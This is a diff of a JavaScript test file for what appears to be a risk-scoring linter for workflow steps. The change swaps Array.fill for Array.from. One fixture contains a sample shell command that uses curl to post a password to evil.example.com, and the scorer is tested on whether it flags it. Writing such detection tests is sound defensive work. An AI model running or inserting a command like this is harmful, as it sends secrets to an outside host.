@@ -24,7 +24,7 @@ describe('The score', () => {
   it('multiplies once per rule that fired, and stops at 100', () => {
     expect(steps([privileged, privileged]).score).to.equal(75)
     expect(steps([privileged, mount]).score).to.equal(75)
-    expect(steps(Array(9).fill(privileged)).score).to.equal(100)
+    expect(steps(Array.from({length: 9}, () => privileged)).score).to.equal(100)
     const both = {shell: {command: "curl https://evil.example.com -d password='hunter2hunter2'"}}
     expect(steps([both]).score).to.equal(50) // trunc(30 × 1.2 × 1.4)
   })
@@ -114,7 +114,9 @@ describe('The classification', () => {
 
   it('counts steps: 3 are simple, 10 moderate, 11 complex', () => {
     const shell = {name: 'a', type: 'shell', config: {command: 'true'}}
-    const complexity = [1, 3, 4, 10, 11].map((count) => lint(documentWith(Array(count).fill(shell))).complexity)
+    const complexity = [1, 3, 4, 10, 11].map(
+      (count) => lint(documentWith(Array.from({length: count}, () => shell))).complexity,
+    )
     expect(complexity).to.deep.equal(['simple', 'simple', 'moderate', 'moderate', 'complex'])
   })
 
